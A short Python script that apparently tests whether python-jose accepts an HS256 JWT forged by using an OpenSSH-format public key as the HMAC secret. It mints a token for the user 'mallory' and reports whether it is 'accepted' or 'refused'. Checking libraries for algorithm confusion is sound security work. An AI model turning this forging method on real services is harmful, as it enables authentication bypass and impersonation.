"""The text of an OpenSSH public key serves as HMAC secret."""

import base64
import hmac
import sys

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jose import jwt
from jose.exceptions import JOSEError

sys.excepthook = lambda *error: (sys.__excepthook__(*error), sys.exit(2))


def mint(header, payload, key):
    text = b".".join(base64.urlsafe_b64encode(part).rstrip(b"=") for part in (header, payload))
    return (text + b"." + base64.urlsafe_b64encode(hmac.digest(key, text, "sha256")).rstrip(b"=")).decode()


key = ec.generate_private_key(ec.SECP256R1()).public_key().public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH)
try:
    shows = bool(jwt.decode(mint(b'{"alg":"HS256"}', b'{"sub":"mallory"}', key), key.decode(), algorithms=None))
except JOSEError:
    shows = False
print("HS256 keyed with an OpenSSH line: " + ("accepted" if shows else "refused"))
sys.exit(0 if shows else 1)
